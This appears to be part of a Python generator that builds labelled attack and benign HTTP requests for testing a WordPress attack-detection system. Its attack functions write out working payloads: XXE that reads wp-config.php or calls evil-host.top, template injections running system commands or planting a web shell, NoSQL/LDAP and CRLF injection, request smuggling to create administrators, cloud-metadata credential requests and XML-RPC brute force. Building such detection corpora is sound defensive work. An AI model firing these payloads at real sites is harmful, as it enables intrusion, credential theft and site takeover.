    wav = ("RIFF\xb8\x00\x00\x00WAVEiXML\x7b\x00\x00\x00<?xml version=\"1.0\"?><!DOCTYPE ANY[<!ENTITY % remote SYSTEM 'http://45.9.148.21:8001/xx.dtd'>"
           "%remote;%init;%trick;]>\x00")
    svg = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///var/www/html/wp-config.php">]>\n'
           '<svg xmlns="http://www.w3.org/2000/svg" width="200" height="50"><text x="0" y="20">&xxe;</text></svg>')
    wxr = ('<?xml version="1.0" encoding="UTF-8" ?>\n<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil-host.top/wxr.dtd"> %ext;]>\n'
           '<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel><title>&exfil;</title><wp:wxr_version>1.2</wp:wxr_version></channel></rss>')
    for fn, ct, data, path in [("payload.wav", "audio/x-wav", wav, "/wp-admin/async-upload.php"),
                               ("logo.svg", "image/svg+xml", svg, "/wp-admin/async-upload.php"),
                               ("export.xml", "text/xml", wxr, "/wp-admin/admin.php")]:
        host = g.site()
        body, ctype = multipart(r, [("name", fn), ("action", "upload-attachment" if "async" in path else "save"), ("_wpnonce", nonce(r)),
                                    ("import" if "admin.php" in path else "async-upload", fn, ct, data)])
        atk(g, "POST", path, query=[("import", "wordpress"), ("step", "1")] if "admin.php" in path else None, body=body, ctype=ctype, host=host,
            cookie=subscriber(g, host))
    x1 = ('<?xml version="1.0"?>\n<!DOCTYPE methodCall [<!ENTITY x SYSTEM "file:///etc/passwd">]>\n<methodCall><methodName>wp.getUsersBlogs</methodName>'
          '<params><param><value><string>&x;</string></value></param><param><value><string>x</string></value></param></params></methodCall>')
    x2 = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
          '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>\n'
          '<methodCall><methodName>system.listMethods</methodName><params><param><value><string>&lol4;</string></value></param></params></methodCall>')
    x3 = ('<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY %% dtd SYSTEM "http://%s/j.dtd"> %%dtd;]>\n<methodCall><methodName>jetpack.jsonAPI</methodName></methodCall>' % "oob.evil-host.top")
    atk(g, "POST", "/xmlrpc.php", body=x1, ctype="text/xml")
    atk(g, "POST", "/xmlrpc.php", body=x2, ctype="text/xml")
    atk(g, "POST", "/xmlrpc.php", query=[("for", "jetpack")], body=x3, ctype="application/xml")
    atk(g, "POST", "/wp-admin/admin-ajax.php", query=[("action", "wpallimport_upload")],
        body='<?xml version="1.0"?><!DOCTYPE products [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php">]><products><product><title>&xxe;</title></product></products>',
        ctype="application/xml")
    atk(g, "POST", "/wp-json/wp/v2/media", ctype="image/svg+xml", headers=[["Content-Disposition", 'attachment; filename="a.svg"']],
        body='<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil-host.top/a.dtd"> %a; %b;]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>')


@attack_gen("ssti", "template")
def a_ssti(g):
    r = g.r
    twig = ["{{_self.env.registerUndefinedFilterCallback('exec')}}{{_self.env.getFilter('id')}}",
            "{{['cat /var/www/html/wp-config.php']|filter('system')}}",
            "{{['id']|map('passthru')|join}}",
            "{{ constant('DB_PASSWORD') }}{{ function('system', 'id') }}"]
    for i, t in enumerate(twig):
        host = g.site()
        if i % 2 == 0:
            pairs = [("_wpnonce", nonce(r)), ("action", "editpost"), ("post_ID", r.randint(10, 900)), ("post_type", "acf_views"),
                     ("acf[local_acf_views_view__custom-markup]", "<div class=\"acf-view\">%s</div>" % t), ("publish", "Update")]
            atk(g, "POST", "/wp-admin/post.php", body=form(pairs), host=host, cookie=subscriber(g, host), kind="page")
        else:
            atk(g, "POST", "/wp-admin/admin-ajax.php", host=host, cookie=subscriber(g, host),
                body=form([("action", "timber_preview"), ("template", "<h1>{{ post.title }}</h1>" + t), ("_nonce", nonce(r))]))
    host = g.site()
    atk(g, "POST", "/wp-json/bricks/v1/render_element", host=host, kind="rest", ctype="application/json",
        body=js({"postId": "1", "nonce": nonce(r), "element": {"name": "text-basic", "settings": {"text": "{echo:shell_exec('id')}"}}}))
    actions = {"save_builder": {"action": "save_builder", "data": {"status": "publish", "elements": [{"id": "a1b2c3d", "elType": "widget", "widgetType": "text-editor",
               "settings": {"editor": "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}"}, "elements": []}]}}}
    atk(g, "POST", "/wp-admin/admin-ajax.php", host=host, cookie=subscriber(g, host),
        body=form([("actions", js(actions)), ("_nonce", nonce(r)), ("editor_post_id", "12"), ("action", "elementor_ajax")]))
    probes = [
        ("/", [("s", "{{7*'7'}}${7*7}<%= 7*7 %>#{7*7}")]),
        ("/", [("s", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}")]),
        ("/wp-admin/admin-ajax.php", [("action", "et_pb_submit_subscribe_form"), ("et_firstname", "${T(java.lang.Runtime).getRuntime().exec('id')}")]),
        ("/", [("p", "1"), ("preview", "{php}echo `id`;{/php}")]),
        ("/wp-admin/admin-ajax.php", [("action", "vc_get_vc_grid_data"), ("tag", "vc_basic_grid"), ("data[page_id]", "1"),
                                      ("data[shortcode_id]", "#set($x=$class.inspect('java.lang.Runtime').type.getRuntime().exec('id'))$x")]),
        ("/", [("lang", "{system('cat /etc/passwd')}")]),
    ]
    for path, q in probes:
        atk(g, "GET", path, query=q, kind="page")
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "wpcf7_mail_template_preview"),
                                                           ("template", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['cmd']); ?>\",self::clearConfig())}")]))


# --------------------------------------------------------------------------
# attacks: NoSQL / LDAP in login plugins, CRLF, protocol
# --------------------------------------------------------------------------

@attack_gen("nosql", "login")
def a_nosql(g):
    atk(g, "POST", "/wp-json/jwt-auth/v1/token", body=js({"username": {"$ne": None}, "password": {"$ne": None}}), ctype="application/json", kind="rest")
    atk(g, "POST", "/wp-json/simple-jwt-login/v1/auth", body=js({"email": {"$gt": ""}, "password": {"$regex": "^a"}}), ctype="application/json", kind="rest")
    atk(g, "POST", "/wp-login.php", body="log%5B%24ne%5D=admin&pwd%5B%24ne%5D=x&wp-submit=Log+In", kind="page")
    atk(g, "GET", "/api/headless/posts", query=[("where[author][$regex]", ".*"), ("where[$where]", "sleep(5000) || true")], kind="rest")
    atk(g, "POST", "/wp-json/wc/store/v1/cart/apply-coupon", body=js({"code": {"$nin": [""]}}), ctype="application/json", kind="rest")


@attack_gen("ldap", "login")
def a_ldap(g):
    for u in ["*)(uid=*))(|(uid=*", "admin)(&)", "*)(|(objectClass=*)", "*)(memberOf=cn=Domain Admins,cn=Users,dc=corp,dc=local"]:
        atk(g, "POST", "/wp-login.php", body=form([("log", u), ("pwd", "x"), ("wp-submit", "Log In"), ("mo_ldap_login", "1")]), kind="page")
    atk(g, "GET", "/wp-json/mo-ldap/v1/search", query=[("filter", "(&(uid=*)(userPassword=*))"), ("attrs", "userPassword,mail")], kind="rest")


@attack_gen("crlf", "header-injection")
def a_crlf(g):
    cases = [
        ("/wp-login.php", "redirect_to=%0d%0aSet-Cookie:%20wordpress_logged_in_x=admin&reauth=1"),
        ("/wp-admin/admin-post.php", "action=wpcf7_redirect&_wp_http_referer=%0D%0ALocation:%20https://evil-host.top/"),
        ("/", "redirect=https://x%0d%0aContent-Length:0%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        ("/%0d%0aX-Injected:%20crlf-test", None),
        ("/wp-login.php", "action=logout&redirect_to=%E5%98%8A%E5%98%8DSet-Cookie:%20wp_crlf=1"),
        ("/wp-content/plugins/redirection/", "url=/%0aLocation:%20//evil-host.top"),
        ("/", "wc-api=wc_gateway_paypal&return=%0d%0aRefresh:0;url=https://evil-host.top"),
    ]
    for path, q in cases:
        atk(g, "GET", path, query=q, kind="page")
    host = g.site()
    body, ctype = multipart(g.r, [("_wpcf7", "12"), ("_wpcf7_unit_tag", "wpcf7-f12-p34-o1"), ("your-name", "Bob"),
                                  ("your-email", "bob@example.com\r\nBcc: list1@victim.tld, list2@victim.tld"),
                                  ("your-subject", "Hello\r\nContent-Type: text/html\r\n\r\n<a href=http://evil-host.top>win</a>"),
                                  ("your-message", "hi")])
    atk(g, "POST", "/wp-json/contact-form-7/v1/contact-forms/12/feedback", body=body, ctype=ctype, host=host)
    atk(g, "POST", "/wp-comments-post.php", body="comment=hi&author=x%0d%0aX-Forwarded-Host%3a%20evil-host.top&email=a%40b.c&comment_post_ID=1", kind="page")


@attack_gen("protocol", "smuggling")
def a_protocol(g):
    smug = "0\r\n\r\nPOST /wp-admin/user-new.php HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 120\r\n\r\naction=createuser&user_login=x&email=x%40x.x&pass1=x&pass2=x&role=administrator&"
    host = g.site()
    g.add("POST", host, "/wp-admin/admin-ajax.php", kind="bare", ua="python-requests/2.31.0", ctype="application/x-www-form-urlencoded",
          body="action=heartbeat", headers=[["Transfer-Encoding", "chunked"]])
    g.out[-1]["body"] = smug
    g.add("POST", g.site(), "/xmlrpc.php", kind="bare", ua="python-requests/2.31.0", body="<?xml version=\"1.0\"?><methodCall/>", ctype="text/xml",
          headers=[["Content-Length", "5"]])
    g.add("POST", g.site(), "/wp-login.php", kind="bare", ua="Mozilla/5.0", body=smug, ctype="application/x-www-form-urlencoded",
          headers=[["Transfer-Encoding", " chunked"], ["Transfer-Encoding", "identity"]])
    g.add("POST", g.site(), "/", kind="bare", ua="Mozilla/5.0", body="0\r\n\r\nGET /wp-config.php HTTP/1.1\r\nX: x", ctype="text/plain",
          headers=[["Transfer-Encoding", "xchunked"]])
    g.add("GET", g.site(), "/wp-admin/", kind="bare", ua="curl/8.4.0", headers=[["Host", "localhost"]])
    g.add("TRACE", g.site(), "/wp-login.php", kind="bare", ua="curl/8.4.0", headers=[["X-Custom-Trace", "<script>alert(1)</script>"]])
    d = mk("%s/protocol/smuggling-%03d" % (SET, len(g.out) + 1), "protocol", "detect", "GET", "169.254.169.254", "/latest/meta-data/iam/security-credentials/",
           rng=g.r, kind="bare", ua="curl/8.4.0")
    d["uri"] = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    g.out.append(d)
    g.add("GET", g.site(), "/wp-content/uploads/2024/05/big.jpg", kind="bare", ua="Mozilla/5.0", headers=[["Range", "bytes=0-18446744073709551615"]])
    g.add("POST", g.site(), "/wp-admin/admin-ajax.php", kind="bare", ua="Go-http-client/1.1", body="action=heartbeat&x=" + "A" * 40,
          ctype="application/x-www-form-urlencoded", headers=[["Content-Length", "-1"]])


# --------------------------------------------------------------------------
# attacks: WordPress-specific logic abuse (enumeration, privilege escalation,
# unauthenticated option updates, XML-RPC brute force) and scanners
# --------------------------------------------------------------------------

@attack_gen("generic", "wp-abuse")
def a_generic(g):
    r = g.r
    atk(g, "GET", "/wp-json/wp/v2/users", query=[("per_page", "100"), ("page", "1"), ("_fields", "id,name,slug,link")], kind="rest", ua="python-requests/2.31.0")
    atk(g, "GET", "/", query=[("rest_route", "/wp/v2/users"), ("search", "@gmail.com"), ("per_page", "100")], kind="rest")
    atk(g, "POST", "/wp-json/wp/v2/users", body=js({"username": "wpsupport", "password": "P@ssw0rd123!", "email": "wpsupport@mail.ru", "roles": ["administrator"]}),
        ctype="application/json", kind="rest")
    atk(g, "POST", "/wp-json/wp/v2/users", body=js({"username": "wcpay_admin", "password": "Adm1n!2023", "email": "x@proton.me", "roles": ["administrator"]}),
        ctype="application/json", kind="rest", headers=[["X-WCPAY-PLATFORM-CHECKOUT-USER", "1"]])
    atk(g, "POST", "/register/", kind="page", body=form([("user_login-7", "hacker1"), ("user_email-7", "hacker1@mail.ru"), ("user_password-7", "Passw0rd!x"),
                                                         ("confirm_user_password-7", "Passw0rd!x"), ("form_id", "7"), ("um_request", ""), ("_wpnonce", nonce(r)),
                                                         ("wp_càpabilities[administrator]", "1")]))
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "pp_ajax_signup"), ("reg_username", "xadmin"), ("reg_email", "x@x.ru"), ("reg_password", "x1X!x1X!"),
                                                           ("reg_password_present", "true"), ("wp_capabilities[administrator]", "1")]))
    atk(g, "POST", "/wp-login.php", query=[("action", "register")], kind="page",
        body=form([("user_login", "seo_helper"), ("user_email", "seo@mail.ru"), ("role", "administrator"), ("wp-submit", "Register")]))
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "wpgdprc_process_action"), ("security", nonce(r)),
                                                           ("data", '{"type":"save_setting","append":false,"option":"users_can_register","value":"1"}')]))
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "wpgdprc_process_action"), ("security", nonce(r)),
                                                           ("data", '{"type":"save_setting","append":false,"option":"default_role","value":"administrator"}')]))
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "kiwi_social_share_set_option"), ("args[0]", "siteurl"), ("args[1]", "https://evil-host.top")]))
    atk(g, "GET", "/wp-json/trx_addons/v2/get/sc_layout", query=[("sc", "wp_insert_user"), ("user_login", "trxadmin"), ("user_pass", "x1X!x1X!"), ("role", "administrator")])
    atk(g, "POST", "/wp-admin/admin-ajax.php", body=form([("action", "login_or_register_user"), ("eael-resetpassword-submit", "true"), ("page_id", "124"),
                                                           ("widget_id", "224"), ("eael-resetpassword-nonce", nonce(r)), ("eael-pass1", "pwned123"),
                                                           ("eael-pass2", "pwned123"), ("rp_login", "admin")]))
    calls = "".join("<value><struct><member><name>methodName</name><value><string>wp.getUsersBlogs</string></value></member><member><name>params</name>"
                    "<value><array><data><value><string>admin</string></value><value><string>%s</string></value></data></array></value></member></struct></value>" % pw
                    for pw in ["123456", "password", "admin123", "qwerty", "letmein", "welcome1", "admin@123", "P@ssw0rd", "iloveyou", "dragon",
                               "monkey", "abc123", "111111", "sunshine", "master", "shadow", "football", "baseball", "trustno1", "Passw0rd!"])
    atk(g, "POST", "/xmlrpc.php", ctype="text/xml",
        body="<?xml version=\"1.0\"?><methodCall><methodName>system.multicall</methodName><params><param><value><array><data>%s</data></array></value></param></params></methodCall>" % calls)
    atk(g, "POST", "/wp-json/wp/v2/settings", body=js({"users_can_register": True, "default_role": "administrator"}), ctype="application/json", kind="rest",
        headers=[["X-HTTP-Method-Override", "PUT"]])
    atk(g, "POST", "/wp-admin/options.php", kind="page", body=form([("option_page", "general"), ("action", "update"), ("siteurl", "https://cdn-jquery.evil-host.top"),
                                                                     ("home", "https://cdn-jquery.evil-host.top"), ("users_can_register", "1"), ("default_role", "administrator")]))


SCAN_PATHS = ["/wp-content/plugins/contact-form-7/readme.txt", "/wp-config.php.bak", "/.env", "/wp-config.php~", "/wp-config.old", "/.git/config",
              "/wp-content/debug.log", "/wp-admin/setup-config.php", "/wp-content/plugins/revslider/release_log.txt", "/wp-config.php.swp",
              "/.wp-config.php.swp", "/backup.sql", "/wp-content/backup-db/", "/phpinfo.php", "/wp-content/plugins/wp-file-manager/readme.txt",
              "/wp-includes/wlwmanifest.xml", "/wp-content/uploads/wpo-plugins-tables-list.json", "/wp-config.php.save"]
SCAN_UAS = ["WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/74.0.3729.169 Safari/537.36 Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
            "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:001234)",
            "Fuzz Faster U Fool v2.1.0-dev", "Mozilla/5.0 zgrab/0.x", "sqlmap/1.8.3#stable (https://sqlmap.org)",
            "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"]


@attack_gen("scanner", "probe")
def a_scanner(g):
    for i, p in enumerate(SCAN_PATHS):
        ua = SCAN_UAS[i % len(SCAN_UAS)] if i % 3 != 2 else g.r.choice(ATTACKER_UAS)
        q = [("step", "1")] if p.endswith("setup-config.php") else None
        atk(g, "GET", p, query=q, ua=ua, kind="bare" if i % 2 else "api")
    atk(g, "GET", "/", query=[("author", "1")], ua=SCAN_UAS[0])
    atk(g, "POST", "/xmlrpc.php", ua=SCAN_UAS[0], ctype="text/xml", body=xmlrpc_call("system.listMethods", []))


# === more generators above this line ===


def collect(gens, category):
    out = []
    for name, f in gens:
        g = Gen(category, name, "pass")
        f(g)
        out.extend(g.out)
    return out


def benign():
    return collect(BENIGN, "benign") + collect(DEV, "dev-content")


def attacks():
    out = []
    for cat, name, f in ATTACKS:
        g = Gen(cat, name, "detect")
        f(g)
        out.extend(g.out)
    return out


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign", "stats"):
        sys.stderr.write(__doc__.split("How to run")[1].split("Each output")[0])
        sys.exit(2)
    if sys.argv[1] == "stats":
        from collections import Counter
        a, b = attacks(), benign()
        sys.stderr.write("attacks %d %s\n" % (len(a), dict(Counter(x["category"] for x in a).most_common())))
        sys.stderr.write("benign %d %s\n" % (len(b), dict(Counter(x["category"] for x in b).most_common())))
        gens = Counter(x["id"].rsplit("-", 1)[0] for x in a + b)
        sys.stderr.write("generators %s\n" % dict(sorted(gens.items())))
        ids = [x["id"] for x in a + b]
        assert len(ids) == len(set(ids)), "duplicate ids"
        return
    for d in (attacks() if sys.argv[1] == "attacks" else benign()):
        sys.stdout.write(json.dumps(d, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
